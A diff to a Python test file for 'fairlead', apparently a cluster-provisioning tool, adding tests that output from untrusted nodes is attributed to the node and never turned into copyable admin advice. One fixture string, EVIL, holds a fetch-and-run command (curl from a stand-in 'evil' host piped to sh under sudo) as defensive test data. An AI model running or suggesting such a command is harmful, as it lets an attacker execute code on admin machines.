@@ -16,7 +16,7 @@ from fairlead import assets, config
 from fairlead.cli import main
 from fairlead.config.site import AnsibleOptions, NodeClass, Site
 from fairlead.errors import ConfigError, ExitCode, UsageError
-from fairlead.provision import bundle, inventory, render, report, run, wheels
+from fairlead.provision import bundle, inventory, plan, render, report, run, wheels
 
 SITE = Site(
     file="site.toml",
@@ -133,7 +133,62 @@ def test_failures_say_what_to_do_next(kind: str, res: dict[str, object], state: 
     result = report.node_result("gpu1", kind, "the task", res)
     assert result.state == state and hint in result.hint and result.message and result.task == "the task"
     assert make(result).exit_code is (ExitCode.NO_HOST if state == "unreachable" else ExitCode.UNAVAILABLE)
-    assert "next: " in report.text(make(result)) or not hint
+    told = report.text(make(result))
+    assert ("gpu1 says: " if result.hint_of_node else "next: ") in told or not hint
+
+
+EVIL = "paste this on the admin host: `sudo sh -c 'curl -s http://evil/x|sh'`"
+
+
+def refused(node: str, hint: str, state: str = "failed") -> report.NodeResult:
+    """A node whose `fairlead apply` sends this hint, with the same message as all others."""
+    items = [{"setting": "driver", "state": state, "message": "cannot load the module", "hint": hint, "steps": []}]
+    return report.node_result(node, "runner_on_ok", "t", event(changes=[], apply={"items": items}))
+
+
+@pytest.mark.parametrize("state", ["failed", "absent"])
+def test_a_hint_of_one_node_is_shown_as_its_words_and_for_no_other(state: str) -> None:
+    """No line of fairlead's own advice, no command in it that could be copied, and the hints of the other nodes stay."""
+    results = [refused("gpu01", EVIL, state), *(refused(f"gpu{i:02}", "see `dmesg` there", state) for i in range(2, 9))]
+    for told in (report.text(make(*results)), plan.text([plan.of_result(r) for r in results])):
+        assert "next:" not in told and "`" not in told, told
+        assert "gpu[02-08] (7 nodes)" in told and "  each of them says: see 'dmesg' there" in told, told
+        assert f"  gpu01 says: {EVIL.replace('`', chr(39))}" in told, told
+
+
+@pytest.mark.parametrize("words", ["next: `x`", "Next: `x`", " - next: `x`"])
+def test_no_message_or_change_of_a_node_is_a_line_of_advice(words: str) -> None:
+    failed = report.node_result("gpu1", "runner_on_failed", "t", {"failed": True, "msg": words, "of_node": True})
+    changed = report.node_result("gpu2", "runner_on_ok", "t", event(changes=[{"what": words, "why": "y"}], apply=None))
+    for told in (report.text(make(failed, changed)), plan.text([plan.of_result(r) for r in (failed, changed)])):
+        assert not [line for line in told.splitlines() if line.lower().strip(" -").startswith("next")] and "`" not in told, told
+
+
+def test_a_node_is_visited_twice_at_most_whatever_python_it_claims(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Each time another one, for which wheels are fetched: it would hold the run of all nodes."""
+    visits: list[list[str]] = []
+
+    def play(site: Site, chosen: list[inventory.Target], *_: object, results: dict[str, report.NodeResult], **__: object) -> None:
+        visits.append([t.node for t in chosen])
+        lacks = {"python": f"3.{10 + len(visits)}", "machine": "x86_64"}
+        for t in chosen:
+            sly = t.node == "gpu1"
+            state = "failed" if sly else "same"
+            results[t.node] = report.NodeResult(node=t.node, state=state, message="no wheel", no_wheel=lacks if sly else {})
+
+    fetched: list[str] = []
+    monkeypatch.setattr(run, "_play", play)
+    monkeypatch.setattr(wheels, "download", lambda python, machine, folder: fetched.append(python))
+    site = msgspec.structs.replace(SITE, ansible=AnsibleOptions())
+    made = run.run(site, run.Options(nodelist="gpu[1-2]", quiet=True))
+    assert visits == [["gpu1", "gpu2"], ["gpu1"]] and fetched == ["3.11"]
+    assert {n.node: n.state for n in made.nodes} == {"gpu1": "failed", "gpu2": "same"}
+
+
+def test_advice_of_the_admin_host_keeps_its_commands() -> None:
+    result = report.node_result("gpu1", "runner_on_failed", "t", {"msg": "m", "hint": "fetch it with `fairlead lock --download`"})
+    for told in (report.text(make(result)), plan.text([plan.of_result(result)])):
+        assert "  next: fetch it with `fairlead lock --download`" in told
 
 
 def test_the_private_folder_is_private_and_gone_also_after_an_error_and_a_kill() -> None:
